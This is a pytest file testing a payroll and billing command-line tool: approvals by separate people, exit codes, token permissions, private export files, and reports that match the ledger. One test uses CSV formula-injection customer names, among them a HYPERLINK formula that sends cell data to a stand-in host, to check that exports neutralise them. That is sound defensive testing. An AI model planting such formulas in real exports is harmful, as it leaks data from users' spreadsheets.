"""Payday and its steps as people type them: exit codes, who must act next, and what is left in the folder."""

from __future__ import annotations

import csv
import re
import shlex
import stat
from collections import defaultdict
from pathlib import Path

import pytest
from django.db import connections, transaction
from lxml import html
from tests.cli.conftest import Cli, Ended
from tests.firm import PAY_DATE, Firm, Temp, TestClient, hours_file, set_up

from engineroom.billing.models import Invoice
from engineroom.ledger import selectors as ledger
from engineroom.payroll import selectors as payroll

TEMPS = [
    Temp(
        "T1",
        "=HYPERLINK(1)",
        hours=("9", "9", "9", "9", "9", "4"),
        pension="net_pay",
        loan="2",
        pay_rate="19.00",
    ),
    Temp("T2", "Al Smith", customer="BETA", status="disputed"),
    Temp("T3", "Bo Jones", customer="BETA", pension="salary_sacrifice"),
]


@pytest.fixture
def ready(staffed: TestClient) -> TestClient:
    set_up(staffed, TEMPS)
    hours_file(staffed, TEMPS)
    return staffed


def payday(cli: Cli, client: TestClient, *more: object, who: str = "specialist") -> Ended:
    hours = client.folder / "hours.csv"
    return cli(
        "payday",
        client.code,
        "--pay-date",
        PAY_DATE,
        "--timesheets",
        hours,
        *more,
        who=client.staff[who].email,
    )


def second_people(client: TestClient) -> list[str]:
    return ["--approve-as", client.staff["lead"].email, "--release-as", client.staff["checker"].email]


def balances(client: TestClient) -> dict[str, int]:
    with client.acting("bookkeeper"):
        return {b.code: b.balance for b in ledger.trial_balance()}


def contents(said: str) -> list[str]:
    """The hashes that were printed: of the run, and of the invoices."""
    return re.findall(r"content (?:of the run: |of the invoices: |)([0-9a-f]{16})\b", said)[-2:]


def test_payday_stops_where_another_person_must_act_and_prints_what_they_type(
    cli: Cli, ready: TestClient, mail: dict[str, str], tmp_path: Path
) -> None:
    stopped = payday(cli, ready)
    assert stopped.code == 3
    assert "Another person must approve exactly this" in stopped.out
    command = f"  engineroom --as {mail['lead']} approve {ready.code} --pay-date {PAY_DATE}"
    assert command in stopped.out.splitlines()
    assert f"--as {mail['specialist']} approve" not in stopped.out
    assert balances(ready) == {}

    words = shlex.split(command)[3:]
    assert cli(*words, "--yes", who=mail["lead"]).code == 1  # yes to what?
    run, bills = contents(stopped.out)
    alone = cli(*words, who=mail["lead"])  # nobody is at the terminal
    assert alone.code == 1 and f"--yes --content {run},{bills}" in alone.err
    assert contents(alone.out) == [run, bills] and "2 drafts of bill run 1" in alone.out
    for content in (run, f"{bills},{run}", f"{run},{'0' * 16}", f"{run},{bills[:8]}"):
        assert cli(*words, "--yes", "--content", content, who=mail["lead"]).code == 1
    approved = cli(*words, "--yes", "--content", f"{run},{bills}", who=mail["lead"])
    assert approved.code == 0
    assert "2 drafts of bill run 1" in approved.out and "30 days" in approved.out
    stopped = payday(cli, ready)
    assert stopped.code == 3
    assert "taken before, nothing done" in stopped.out
    assert (
        f"  engineroom --as {mail['checker']} release {ready.code} --pay-date {PAY_DATE}"
        in stopped.out.splitlines()
    )

    assert cli("release", ready.code, "--pay-date", PAY_DATE, who=mail["lead"]).code == 1  # who approved
    released = cli("release", ready.code, "--pay-date", PAY_DATE, who=mail["checker"])
    assert released.code == 0
    assert "issued 2 invoices, INV-000001 to INV-000002" in released.out
    nothing = cli("post", ready.code, "--pay-date", PAY_DATE, who=mail["checker"])
    assert nothing.code == 3
    assert f"engineroom --as {mail['specialist']} post {ready.code} --pay-date {PAY_DATE}" in nothing.out
    done = payday(cli, ready, "--out", tmp_path)
    assert done.code == 0
    assert "papers: 3 payslips and 2 invoices as PDF" in done.out
    again = payday(cli, ready)
    assert "papers: no new payslips (3 there) and no new invoices (2 there) as PDF" in again.out
    there = cli("post", ready.code, "--pay-date", PAY_DATE, who=mail["checker"])
    assert (there.code, "3 payslips are there as PDF" in there.out) == (0, True)
    assert (tmp_path / "invoices" / "INV-000001.pdf").read_bytes()[:5] == b"%PDF-"


def test_the_steps_one_by_one_are_the_same_as_payday(
    cli: Cli, firm: Firm, ready: TestClient, mail: dict[str, str], other_client: TestClient
) -> None:
    from tests.firm import give_token

    for user in other_client.staff.values():
        give_token(firm, user)
    set_up(other_client, TEMPS)
    hours_file(other_client, TEMPS)
    assert payday(cli, ready, *second_people(ready)).code == 0
    emails = {role: user.email for role, user in other_client.staff.items()}
    code, day = other_client.code, ("--pay-date", PAY_DATE)
    said = ""
    for who, words in [
        ("specialist", ("import", code, "timesheets", other_client.folder / "hours.csv")),
        ("specialist", ("calculate", code, *day)),
        ("lead", ("approve", code, *day, "--yes", "--content", "")),
        ("checker", ("release", code, *day)),
        ("specialist", ("post", code, *day)),
    ]:
        if words[-1] == "":
            words = (*words[:-1], ",".join(contents(said)))
        ended = cli(*words, who=emails[who])
        assert ended.code == 0, ended
        said = ended.out
    assert balances(other_client) == balances(ready)
    assert len(balances(ready)) > 8


def test_a_second_identity_works_in_a_demonstration_only(cli: Cli, firm: Firm, ready: TestClient) -> None:
    def mark(is_demo: bool) -> None:
        with transaction.atomic(using="owner"), connections["owner"].cursor() as cursor:
            cursor.execute("SELECT set_config('app.face', 'firm', true)")
            cursor.execute("UPDATE foundation_installation SET is_demo = %s", [is_demo])
            assert cursor.rowcount == 1

    mark(False)
    try:
        for option in (("--approve-as", "lead"), ("--release-as", "checker")):
            refused = payday(cli, ready, option[0], ready.staff[option[1]].email)
            assert refused.code == 1
            assert "work in a demonstration only" in refused.err
        with ready.acting("lead"):
            assert payroll.run_of(PAY_DATE) is None
        assert payday(cli, ready).code == 3
    finally:
        mark(True)


def test_one_identity_never_approves_its_own_work(cli: Cli, ready: TestClient, mail: dict[str, str]) -> None:
    refused = payday(cli, ready, "--approve-as", mail["specialist"])
    assert refused.code == 1
    assert "needs the permission payroll.approve" in refused.err
    own = payday(cli, ready, "--approve-as", mail["lead"], who="lead")
    assert own.code == 1
    assert "made" in own.err
    assert balances(ready) == {}


def test_exit_codes_say_what_kind_of_no_it_was(cli: Cli, ready: TestClient, mail: dict[str, str]) -> None:
    specialist = mail["specialist"]
    bad = ready.file(
        "bad.csv", ("assignment", "payroll_number", "date", "hours"), [("X", "T1", "2026-11-16", "8")]
    )
    assert cli("clients", "list", who=specialist).code == 0
    assert cli("ledger", "verify", "NOBODY", who=specialist).code == 1
    refused = cli("import", ready.code, "timesheets", bad, who=specialist)
    assert refused.code == 2
    assert "bad.csv, row 2, assignment" in refused.out
    assert (
        cli("import", ready.code, "timesheets", bad, "--preview", who=specialist).out.count(
            "there is no assignment"
        )
        == 1
    )
    assert cli("import", ready.code, "nonsense", bad, who=specialist).code == 1
    assert cli("payday", who=specialist).code == 2
    assert payday(cli, ready).code == 3
    missing = cli("import", ready.code, "timesheets", ready.folder / "gone.csv", who=specialist)
    assert (missing.code, "there is no file" in missing.err) == (1, True)


def test_a_file_taken_before_says_just_that(cli: Cli, ready: TestClient, mail: dict[str, str]) -> None:
    """Its rows are known, of course; that is no list of errors."""
    hours = ready.folder / "hours.csv"
    assert cli("import", ready.code, "timesheets", hours, who=mail["specialist"]).code == 0
    again = cli("import", ready.code, "timesheets", hours, who=mail["specialist"])
    assert (again.code, again.out.strip()) == (0, "hours.csv: taken before, nothing done")
    preview = cli("import", ready.code, "timesheets", hours, "--preview", who=mail["specialist"])
    assert preview.code == 0
    assert "problems" not in preview.out
    assert "taken before" in preview.out


def test_a_statement_is_the_bookkeepers_to_clear(cli: Cli, ready: TestClient, mail: dict[str, str]) -> None:
    statement = ready.folder / "bank statement.xml"
    statement.write_text("<x/>")
    stopped = payday(cli, ready, *second_people(ready), "--statement", statement)
    assert stopped.code == 3
    assert f"engineroom --as {mail['bookkeeper']} clear {ready.code} '{statement}'" in stopped.out
    assert balances(ready)["4000"] < 0


@pytest.mark.parametrize(
    ("who", "token", "message"),
    [
        (None, None, "Say who you are: engineroom --as EMAIL COMMAND. Tokens on this computer: "),
        (
            "nobody@firm.example",
            None,
            "An admin types `engineroom --as ADMIN token issue nobody@firm.example`",
        ),
        (
            "nobody@firm.example",
            "er_wrong",
            "the token in ENGINEROOM_TOKEN is unknown, ended, or not nobody@firm.example's",
        ),
    ],
)
def test_without_a_token_the_message_says_what_to_do(
    cli: Cli,
    staffed: TestClient,
    monkeypatch: pytest.MonkeyPatch,
    who: str | None,
    token: str | None,
    message: str,
) -> None:
    if token:
        monkeypatch.setenv("ENGINEROOM_TOKEN", token)
    refused = cli("clients", "list", who=who)
    assert refused.code == 1
    assert message in refused.err


def test_a_token_file_that_others_can_read_is_not_used(
    cli: Cli, staffed: TestClient, mail: dict[str, str]
) -> None:
    from engineroom.cli.ground import token_path

    path = token_path(mail["lead"])
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    path.chmod(0o644)
    refused = cli("clients", "list", who=mail["lead"])
    assert refused.code == 1
    assert f"chmod 600 {path}" in refused.err


# --- what is left in the folder -----------------------------------------------------------------------


@pytest.fixture
def paid(cli: Cli, ready: TestClient, tmp_path: Path) -> tuple[TestClient, Path]:
    ended = payday(cli, ready, *second_people(ready), "--out", tmp_path / "out")
    assert ended.code == 0, ended
    return ready, tmp_path / "out"


def test_papers_are_readable_by_nobody_else(paid: tuple[TestClient, Path]) -> None:
    _, out = paid
    files = [p for p in out.rglob("*") if p.is_file()]
    assert {p.suffix for p in files} == {".csv", ".html", ".pdf", ".txt"}
    assert len([p for p in files if p.parent.name == "payslips"]) == 3
    assert {stat.S_IMODE(p.stat().st_mode) for p in files} == {0o600}
    assert {stat.S_IMODE(p.stat().st_mode) for p in out.rglob("*") if p.is_dir()} == {0o700}


def test_the_journal_is_the_ledger(paid: tuple[TestClient, Path]) -> None:
    client, out = paid
    (path,) = out.glob("journal-*.csv")
    rows = list(csv.DictReader(path.read_text(encoding="utf-8-sig").splitlines()))
    totals: dict[str, int] = defaultdict(int)
    entries: dict[str, int] = defaultdict(int)
    for row in rows:
        amount = pennies(row["debit"]) - pennies(row["credit"])
        totals[row["account"]] += amount
        entries[row["entry"]] += amount
    assert dict(totals) == balances(client)
    assert set(entries.values()) == {0}
    with client.acting("bookkeeper"):
        assert len(rows) == len(ledger.journal())


def pennies(text: str) -> int:
    return int(text.replace(".", "")) if text else 0


def test_nothing_in_an_exported_csv_is_a_formula(
    cli: Cli, paid: tuple[TestClient, Path], tmp_path: Path
) -> None:
    """Customers with hostile names: a spreadsheet shows them and runs nothing."""
    client, _ = paid
    names = {"ACME": '=HYPERLINK("http://x.example?"&A1)', "BETA": "+1-2 @SUM(A1)"}
    client.take("customers", client.file("hostile.csv", ("code", "name"), list(names.items())))
    assert payday(cli, client, "--out", tmp_path / "hostile").code == 0
    (path,) = (tmp_path / "hostile").glob("journal-*.csv")
    cells = {cell for row in csv.reader(path.read_text(encoding="utf-8-sig").splitlines()) for cell in row}
    assert {f"'{name}" for name in names.values()} <= cells
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]


def tables(page: Path) -> dict[str, list[list[str]]]:
    """Rows of the body of each table of the report, by its section."""
    root = html.fromstring(page.read_text(encoding="utf-8"))
    return {
        section.get("id"): [[c.text_content().strip() for c in row] for row in section.xpath(".//tbody/tr")]
        for section in root.xpath("//section[@id]")
    }


def test_the_report_says_what_the_ledger_says(paid: tuple[TestClient, Path]) -> None:
    client, out = paid
    (path,) = out.glob("report-*.html")
    found = tables(path)
    trial = {row[0]: pennies_of(row[2]) - pennies_of(row[3]) for row in found["ledger"]}
    assert trial == balances(client)
    with client.acting("lead"):
        run = payroll.run_of(PAY_DATE)
        assert run is not None
        slips = {s.payroll_number: s.figures for s in payroll.payslips(run)}
        sales = {
            i.customer.name: i.net
            for i in Invoice.objects.filter(client_id=client.id).select_related("customer")
        }
    assert [row[0] for row in found["people"]] == sorted(slips)
    for row in found["people"]:
        gross, *deducted, net = [pennies_of(cell) for cell in row[3:9]]
        assert gross - sum(deducted) == net == slips[row[0]]["net_pay"]
        assert gross == slips[row[0]]["gross"]
    assert {row[0]: pennies_of(row[2]) for row in found["margin"]} == sales
    assert {row[0]: pennies_of(row[3]) for row in found["margin"]} == {"ACME Ltd": 0, "BETA Ltd": 40 * 2100}
    assert [(row[0], row[1], row[5]) for row in found["held"]] == [
        ("BETA Ltd", "T2 Al Smith", "disputed")
    ] * 5
    assert "Not explained" not in path.read_text(encoding="utf-8")


def pennies_of(text: str) -> int:
    digits = text.replace("–", "").replace(",", "").replace(".", "").replace("£", "").strip()
    return int(digits) if digits else 0


def test_held_hours_are_ended_on_the_command_line(
    cli: Cli, paid: tuple[TestClient, Path], mail: dict[str, str]
) -> None:
    client, _ = paid
    ended = cli(
        "billing", "end-hold", client.code, "T2@2026-11-16", "--outcome", "written_off", "--reason", "lost",
        who=mail["specialist"],
    )  # fmt: skip
    said = "BETA Ltd, week ending 2026-11-22: 5 charges of 840.00 now written off"
    assert (ended.code, ended.out.strip()) == (0, said)
    verified = cli("ledger", "verify", client.code, who=mail["bookkeeper"])
    assert verified.code == 0
    assert "WRONG" not in verified.out


def test_a_checker_is_left_the_report_and_the_drafts_before_they_say_yes(
    cli: Cli, ready: TestClient, tmp_path: Path
) -> None:
    stopped = payday(cli, ready, "--out", tmp_path)
    assert stopped.code == 3
    (report,) = tmp_path.glob("report-*.html")
    (drafts,) = tmp_path.glob("drafts-*.csv")
    rows = list(csv.DictReader(drafts.read_text(encoding="utf-8-sig").splitlines()))
    assert {row["customer"] for row in rows} == {"ACME Ltd", "BETA Ltd"}
    assert {row["terms in days"] for row in rows} == {"30"}
    assert "T1" in report.read_text(encoding="utf-8")
    assert str(drafts) in stopped.out


def test_what_waits_is_listed(cli: Cli, ready: TestClient, mail: dict[str, str]) -> None:
    assert payday(cli, ready).code == 3
    drafts = cli("billing", "drafts", ready.code, who=mail["checker"])
    assert (drafts.code, "drafts of bill run 1 of" in drafts.out) == (0, True)
    held = cli("billing", "held", ready.code, who=mail["checker"])
    assert (held.code, "5 charges held" in held.out, "disputed" in held.out) == (0, True, True)


def test_an_hour_on_two_timesheets_is_asked_about(
    cli: Cli, staffed: TestClient, mail: dict[str, str]
) -> None:
    temps = [
        Temp("T1", hours=("4",), status="disputed"),
        Temp("T1", hours=("4",), customer="BETA", status="disputed"),
    ]
    set_up(staffed, temps)
    staffed.take("timesheets", hours_file(staffed, temps))
    words = ("billing", "end-hold", staffed.code, "T1@2026-11-16", "--outcome", "billable", "--reason", "ok")
    asked = cli(*words, who=mail["specialist"])
    assert asked.code == 1
    assert "add --assignment with one of T1-ACME (ACME Ltd), T1-BETA (BETA Ltd)" in asked.err
    ended = cli(*words, "--assignment", "T1-BETA", who=mail["specialist"])
    assert ended.out.strip() == "BETA Ltd, week ending 2026-11-22: 1 charge of 84.00 now billable"


def test_who_blocks_the_run_is_printed_when_it_is_calculated(
    cli: Cli, ready: TestClient, mail: dict[str, str]
) -> None:
    headings = ("payroll_number", "name", "start_date", "sort_code", "account_number")
    ready.take("people", ready.file("new.csv", headings, [("T77", "Nu", "2026-01-05", "", "")]))
    headings = ("assignment", "payroll_number", "customer", "order_number", "role", "start_date", "pay_rate")
    row = ("T77-ACME", "T77", "ACME", "", "Operative", "2026-01-05", "15.00", "21.00")
    ready.take("assignments", ready.file("a77.csv", (*headings, "bill_rate"), [row]))
    ready.take("timesheets", hours_file(ready, [Temp("T77")], name="h77.csv"))
    done = cli("calculate", ready.code, "--pay-date", PAY_DATE, who=mail["specialist"])
    assert done.code == 0
    assert "the run cannot be approved" in done.out
    assert "T77" in done.out


def test_every_row_of_a_file_counts_also_those_that_cannot_be_read(
    cli: Cli, ready: TestClient, mail: dict[str, str]
) -> None:
    headings = ("assignment", "payroll_number", "date", "hours")
    rows = [
        ("T1-ACME", "T1", "2026-11-16", "8"),
        ("T1-ACME", "T1", "soon", "many"),
        ("X", "T1", "2026-11-17", "8"),
    ]
    refused = cli(
        "import", ready.code, "timesheets", ready.file("b.csv", headings, rows), who=mail["specialist"]
    )
    assert refused.code == 2
    assert "3 errors in 3 rows; nothing was taken" in refused.err
